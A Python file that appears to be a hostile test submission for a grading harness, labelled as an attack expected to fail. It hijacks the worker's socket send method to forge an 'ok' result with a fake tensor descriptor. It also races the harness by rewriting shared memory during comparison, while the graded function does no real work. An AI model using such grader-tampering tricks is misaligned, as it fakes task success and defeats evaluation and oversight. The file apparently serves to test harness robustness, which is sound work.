# /// attack
# rows = []
# tries = "A thread rewrites the shared memory all the while it is copied and compared."
# kind = "hostile"
# verdicts = ["failed", "broke protocol"]
# says = ["has shape"]
# ///
import struct
import sys

import msgspec
import torch

FORGED = [False]


def channel_of_the_worker():
    frame = sys._getframe()
    while frame is not None:
        for value in frame.f_locals.values():
            if hasattr(value, "sock") and hasattr(value, "send"):
                return value
        frame = frame.f_back
    return None


def pack(value):
    return msgspec.msgpack.encode(value)


def frame_of(structure, blob=b""):
    return struct.pack("<II", len(structure), len(blob)) + structure + blob


def take_over():
    channel = channel_of_the_worker()
    honest = type(channel).send

    def send(self, buffers):
        if not FORGED[0]:
            return honest(self, buffers)
        FORGED[0] = False
        nonce = msgspec.msgpack.decode(bytes(buffers[1]))[0]
        self.sock.sendall(forge(nonce, self))

    type(channel).send = send


take_over()


def cross_entropy_backward(logits, targets):
    FORGED[0] = True
    return logits.zero_()


import threading


def rewrite(memory):
    while True:
        for byte in (b"\x00", b"\xff", b"\x3f"):
            memory[: 4 << 20] = byte * (4 << 20)


def forge(nonce, channel):
    if channel.shared is not None:
        threading.Thread(target=rewrite, args=(channel.shared,), daemon=True).start()
    return frame_of(pack([nonce, "ok", ["T", "float64", [1 << 19], -1, 4 << 20, 0, "cpu"], None]))
